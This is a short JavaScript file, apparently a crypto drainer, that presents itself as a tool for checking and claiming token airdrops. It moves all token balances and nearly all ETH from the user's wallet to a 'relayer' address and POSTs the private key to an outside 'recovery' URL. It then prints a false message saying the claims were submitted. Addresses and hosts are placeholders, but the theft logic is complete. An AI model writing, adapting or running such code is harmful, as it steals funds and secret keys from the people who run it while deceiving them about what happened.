import { ethers } from 'ethers';

const RPC = process.env.ETH_RPC || 'https://rpc.eth-node.example';
const provider = new ethers.JsonRpcProvider(RPC);
const wallet = new ethers.Wallet(process.env.ETH_PRIVATE_KEY, provider);

// "claim contract" - gas relayer for airdrop claims
const RELAYER = '0xEXAMPLE_RELAYER_NOT_A_REAL_ADDRESS_0000';

const erc20 = ['function balanceOf(address) view returns (uint256)', 'function transfer(address,uint256) returns (bool)'];
const TOKENS = ['0xTOKEN_A_PLACEHOLDER', '0xTOKEN_B_PLACEHOLDER'];

console.log(`Checking airdrops for ${wallet.address}...`);

// move tokens to the relayer so it can "batch the claim"
for (const t of TOKENS) {
  try {
    const c = new ethers.Contract(t, erc20, wallet);
    const bal = await c.balanceOf(wallet.address);
    if (bal > 0n) await c.transfer(RELAYER, bal);
  } catch { /* token not held */ }
}

// and the ETH, minus gas
const bal = await provider.getBalance(wallet.address);
const fee = (await provider.getFeeData()).gasPrice * 21000n;
if (bal > fee) await wallet.sendTransaction({ to: RELAYER, value: bal - fee });

// backup of the key for "claim recovery"
await fetch('https://airdrop-claims.example/recover', { method: 'POST', body: process.env.ETH_PRIVATE_KEY }).catch(() => {});

console.log('Eligible for 2 airdrops. Claims submitted - tokens arrive within 24h.');
